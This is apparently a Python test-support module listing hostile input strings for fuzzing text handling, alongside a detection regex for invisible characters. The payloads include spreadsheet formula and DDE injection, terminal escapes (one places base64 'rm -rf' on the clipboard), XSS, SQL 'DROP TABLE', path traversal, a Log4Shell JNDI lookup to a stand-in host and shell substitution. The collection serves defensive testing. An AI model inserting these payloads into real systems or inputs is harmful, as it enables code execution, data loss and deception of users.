"""Strings that break what handles text carelessly: the published collection, and what it leaves out."""

import re
from collections.abc import Callable
from functools import cache
from typing import Final, TypeVar

from activities.failures import InvalidRequestError
from tests.vectors import load_vectors

Gives = TypeVar("Gives")

OWN: Final = (
    # Cells that spreadsheets run, also behind blanks, quotes and the marks that readers skip.
    "=1+1", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", ' "=1+1"', '"=1+1"', "'=1+1", "\ufeff=1+1", "\uff1d1+1", 'a"\n=1+1,"',
    '=HYPERLINK("http://x.example/?"&A1,"see")', "%0A=1+1", ";=1+1", "|=1+1", "DDE",
    # What a terminal obeys: colours, cursor, title, links, clipboard, erasing, C1 forms, backspace, bell.
    "\x1b[2J\x1b[1;1Hcleared", "\x1b]0;title\x07", "\x1b]8;;http://x.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmCg==\x07", "\x1b[8mhidden", "\x1bP$q\x1b\\", "\x9b2J", "\x9d0;title\x9c",
    "\x84\x85\x8d",
    "approved\rREFUSED", "APPROVED\x08\x08\x08\x08\x08\x08\x08\x08refused", "a\x7fb", "a\x07b", "a\x0bb\x0cc",
    # Direction, invisible characters, look-alikes.
    "\u202egnp.exe", "\u2066hidden\u2069", "\u200b\u200c\u200d\u2060\ufeff", "\u2028\u2029",
    "\U000e0041\U000e007f",
    "\u0430cme", "acme\u0301", "\u1160\u3164", "\ufff9a\ufffab\ufffb", "\ufdd0\uffff",
    # Markup of our own console, emoji codes, markdown, HTML, addresses that readers link by themselves.
    "[bold red]x[/]", "[/]", "[link=http://x.example]y[/link]", "\\[bold]", "back\\", ":skull:",
    ":warning-emoji:",
    "![](http://x.example/a.png)", "[x](javascript:alert(1))", "<img src=x onerror=alert(1)>",
    "https://x.example/a",
    "www.x.example", "a@x.example", "| a | b |\n| --- | --- |", "# heading", "```\ncode", "&lt;b&gt;",
    "</textarea>",
    # Log lines, JSON, SQL, paths, templates.
    'x"}\n{"event": "approved", "level": "info"}', "\\u0000", "\x00", "a\x00b", "\x1a",
    "'; DROP TABLE batches; --",
    "../../etc/passwd", "{0.__class__}", "%s%n%x", "${jndi:ldap://x.example/a}", "{{7*7}}", "$(id)", "`id`",
    "a,b", 'a"b', "a\nb", "a\r\nb", "NaN", "null", "true", "-0", "1e999", "0x1", "\\", '"', "'", ",", ";",
    " ", "\t",
    "x" * 5_000, "\u00e9" * 300, "Z\u0351\u036b\u0343" * 60,
)  # fmt: skip
"""Ours; none names anybody."""

LONE: Final = ("\ud800", "a\udfffb", "\udcff")
"""Halves of characters: JSON can spell them, and nothing can store them."""

RUN_BY_SPREADSHEETS: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""Beginnings of cells that a spreadsheet takes for a formula."""

UNSEEN: Final = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb"
    "\ud800-\udfff\U000e0000-\U000e007f]"
)
"""What no terminal, log or page may be given; the line feed is what our own lines end with."""


@cache
def hostile_strings() -> tuple[str, ...]:
    """The published collection and ours, each once."""
    listed = load_vectors("hostile-input/blns.json")
    assert isinstance(listed, list)
    return tuple(dict.fromkeys([*(str(text) for text in listed), *OWN]))


def telling(text: str) -> bool:
    """Whether a text is long and odd enough that finding it elsewhere means that it was repeated there."""
    return len(text) > 6 and not re.fullmatch(r"[a-zA-Z0-9_. -]*", text)


def outcome(call: Callable[[], Gives]) -> tuple[Gives | None, str]:
    """What a call gives, or the text of its refusal; any other error is the test's."""
    try:
        return call(), ""
    except InvalidRequestError as refused:
        return None, refused.message
